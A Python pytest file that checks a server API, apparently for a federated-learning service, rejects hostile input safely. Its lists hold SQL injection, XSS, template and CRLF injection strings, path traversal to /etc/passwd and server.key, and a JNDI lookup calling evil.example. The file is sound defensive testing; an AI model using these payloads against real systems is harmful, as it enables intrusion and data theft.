"""Text that means something elsewhere means nothing here: SQL, HTML, paths and numbers of all shapes."""

import json
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest
from sqlalchemy import inspect

from eitr.server.db.tables import Base, ParticipantRow
from tests.server.cases import naming
from tests.server.hostile.conftest import Person, RunningServer, is_guarded, problem, request

JSON = {"Content-Type": "application/json"}
NASTY = [
    "'; DROP TABLE participants; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM rounds",
    "1 UNION SELECT secret_hash FROM participants",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}<%= 7*7 %>",
    "%s%n%x",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "\x00",
    "a\x00b",
    "\u202e\ufeff\u2028",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢" * 10,
    "\r\nSet-Cookie: a=b",
]


@pytest.fixture(autouse=True)
def _everything_is_still_there(server: RunningServer, person: Person) -> Iterator[None]:
    yield
    assert set(Base.metadata.tables) <= set(inspect(server.database.engine).get_table_names())
    assert server.count(ParticipantRow, id=person.id) == 1


def assert_harmless(answer: httpx.Response, nasty: str) -> None:
    """The answer is JSON that no browser takes for anything else, and does not repeat what was sent as it was."""
    assert answer.status_code < 500
    assert is_guarded(answer.headers)
    assert answer.headers["content-type"] in ("application/problem+json", "application/json")
    assert "set-cookie" not in answer.headers
    if len(nasty) > 3:
        assert nasty not in answer.text
    assert "<script" not in answer.text


def test_in_an_invitation(server: RunningServer) -> None:
    for nasty in NASTY:
        with naming(nasty):
            answer = server.http.post("/api/v2/participants", json={"invitation": nasty})
            assert problem(answer) == "invitation-needed"
            assert_harmless(answer, nasty)


def test_as_the_name_of_a_field(server: RunningServer) -> None:
    for nasty in NASTY:
        with naming(nasty):
            answer = server.http.post("/api/v2/participants", json={nasty: 1})
            assert problem(answer) == "malformed-request"
            assert_harmless(answer, nasty)


def test_in_every_part_of_an_address(server: RunningServer) -> None:
    for nasty in NASTY:
        with naming(nasty):
            person = server.enrol()
            part = quote(nasty, safe="")
            for method, path in (
                ("GET", f"/api/v2/models/{part}/weights"),
                ("GET", f"/api/v2/models/1/{part}"),
                ("PUT", f"/api/v2/rounds/{part}/update"),
                ("GET", f"/{part}"),
                ("GET", f"/api/{part}/model"),
                ("GET", f"/api/v2/rounds/current?{part}={part}&id={part}"),
                ("GET", f"/api/v2/me/export?participant={part}&id={part}"),
            ):
                headers = {**person.headers, "Content-Digest": "x"}
                answer = server.http.request(method, path, headers=headers)
                assert answer.status_code in (200, 400, 404, 405, 415), path
                assert_harmless(answer, nasty)


def test_in_every_header(server: RunningServer) -> None:
    for nasty in [one for one in NASTY if one.isprintable() and one.isascii()]:
        with naming(nasty):
            person = server.enrol()
            for name in (
                "Authorization",
                "Content-Type",
                "Content-Digest",
                "Content-Encoding",
                "If-None-Match",
                "Accept",
                "Accept-Language",
                "User-Agent",
                "Referer",
                "Origin",
                "Cookie",
                "Host",
                "Range",
                "X-Forwarded-For",
                "X-Forwarded-Proto",
                "Forwarded",
                "X-Http-Method-Override",
            ):
                for method, path in (
                    ("GET", "/api/v2/model"),
                    ("GET", "/api/v2/me/export"),
                    ("PUT", "/api/v2/rounds/1/update"),
                ):
                    answer = server.http.request(method, path, headers={**person.headers, name: nasty})
                    assert answer.status_code in (200, 400, 401, 404, 409, 415), name
                    assert_harmless(answer, nasty)


def test_a_wish_without_an_invitation_is_a_wish(server: RunningServer) -> None:
    for body in [b"", b"null", b"{}"]:
        with naming(body):
            answer = server.http.post(
                "/api/v2/participants", content=body, headers={"Content-Type": "application/json"}
            )
            assert answer.status_code == 201


def test_a_body_that_is_no_wish_is_malformed(server: RunningServer) -> None:
    for body in [
        b"{",
        b"[]",
        b"[" * 30_000,
        b'{"invitation":' * 4000,
        b'{"a":' * 5000 + b"1" + b"}" * 5000,
        b"1" * 5000,
        b'{"invitation": ' + b"1" * 5000 + b"}",
        b'{"invitation": 1e999}',
        b'{"invitation": NaN}',
        b'{"invitation": true}',
        b'{"invitation": []}',
        b'{"invitation": ""}',
        b'{"invitation": "' + b"a" * 201 + b'"}',
        b'{"invitation": "\\ud800"}',
        b'{"\\ud800": 1}',
        b'{"\\udfff\\ud800": {"\\ud800": 1}}',
        b'{"invitation": "\xff"}',
        b"\xef\xbb\xbf{}x",
        b'{"invitation": null, "extra": 1}',
        b'{"__proto__": {"a": 1}}',
        b'"text"',
        b"\x00",
    ]:
        with naming(body):
            before = server.count(ParticipantRow)
            answer = server.http.post(
                "/api/v2/participants", content=body, headers={"Content-Type": "application/json"}
            )
            assert problem(answer) == "malformed-request"
            assert len(answer.content) < 2000
            assert server.count(ParticipantRow) == before


def test_a_wish_of_another_media_type_is_malformed_for_a_form_on_any_page_could_send_it(server: RunningServer) -> None:
    for kind in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "text/xml"]:
        with naming(kind):
            content = json.dumps({"invitation": "a"})
            answer = server.http.post("/api/v2/participants", content=content, headers={"Content-Type": kind})
            assert problem(answer) == "malformed-request"


def test_no_path_leads_to_a_file(server: RunningServer) -> None:
    for path in [
        "/api/v2/models/../../etc/passwd",
        "/api/v2/models/../../../../../../etc/passwd",
        "/api/v2/models/%2e%2e/%2e%2e/etc/passwd",
        "/api/v2/models/..%2f..%2fetc%2fpasswd/weights",
        "/api/v2/models/%252e%252e%252fetc/weights",
        "/api/v2/models/..\\..\\etc\\passwd/weights",
        "/api/v2/models/1/../../../server.key",
        "/static/../server.key",
        "/static/%2e%2e/server.key",
        "/static/..%2fserver.key",
        "/static/../site.py",
        "/static/%2e%2e/site.py",
        "/static/..%2fsite.py",
        "/static/....//site.py",
        "/static/%5c..%5csite.py",
        "/static/",
        "/../server.key",
        "/%2e%2e/server.key",
        "/server.key",
        "/eitr.db",
        "/.git/config",
        "/.env",
        "//etc/passwd",
        "/docs",
        "/redoc",
        "/openapi.json",
    ]:
        with naming(path):
            heard = server.say(request("GET", path))
            assert heard.statuses[0] in (400, 404)
            assert problem(heard.answers[0]) in ("not-found", "malformed-request")
            assert b"root:" not in heard.data


IMPOSSIBLE = [
    "0",
    "-1",
    "-0",
    "2147483648",
    "4294967297",
    "9223372036854775808",
    "18446744073709551617",
    "1" * 100,
    "1" * 5000,
    "1.5",
    "1e0",
    "0x1",
    "NaN",
    "inf",
    "true",
    "null",
    "١",
    "１",
    "²",
    "Ⅰ",
    "1,2",
    "1;2",
    "1%00",
    "%00",
    "1'--",
    "current",
    "%20",
]


def test_a_number_that_cannot_be_one_is_malformed(server: RunningServer) -> None:
    for number in IMPOSSIBLE:
        with naming(number):
            person = server.enrol()
            for file in ("weights", "vocabulary", "model.safetensors", "tfjs/model.json", "tfjs/weights.bin"):
                assert problem(server.http.get(f"/api/v2/models/{number}/{file}")) == "malformed-request"
            answer = server.put(person, number, b"")
            assert problem(answer) == "malformed-request"


def test_a_number_written_oddly_is_the_same_number_or_malformed(server: RunningServer) -> None:
    for number in ["+1", "01", "1.0", "%201", "1_0", "2147483647"]:
        with naming(number):
            person = server.enrol()
            meant = str(int(float(number.replace("%20", "").replace("_", ""))))
            plain = server.http.get(f"/api/v2/models/{meant}/weights")
            odd = server.http.get(f"/api/v2/models/{number}/weights")
            assert odd.status_code == 400 or (odd.status_code, odd.content) == (plain.status_code, plain.content)
            assert server.put(person, number, b"").status_code in (400, server.put(person, meant, b"").status_code)


def test_a_missing_version_or_round_is_unknown(server: RunningServer, person: Person) -> None:
    assert problem(server.http.get("/api/v2/models/2147483647/weights")) == "unknown-version"
    assert problem(server.put(person, 2147483647, b"")) == "unknown-round"


def test_odd_tags_are_compared_and_nothing_else(server: RunningServer) -> None:
    for tag in ["*", 'W/"x"', '"' * 500, "," * 900, "W/" * 400, '"a", ' * 150 + "*"]:
        with naming(tag):
            for path in ("/api/v2/model", "/api/v2/models/1/weights"):
                expected = 304 if "*" in tag else 200
                assert server.http.get(path, headers={"If-None-Match": tag}).status_code == expected
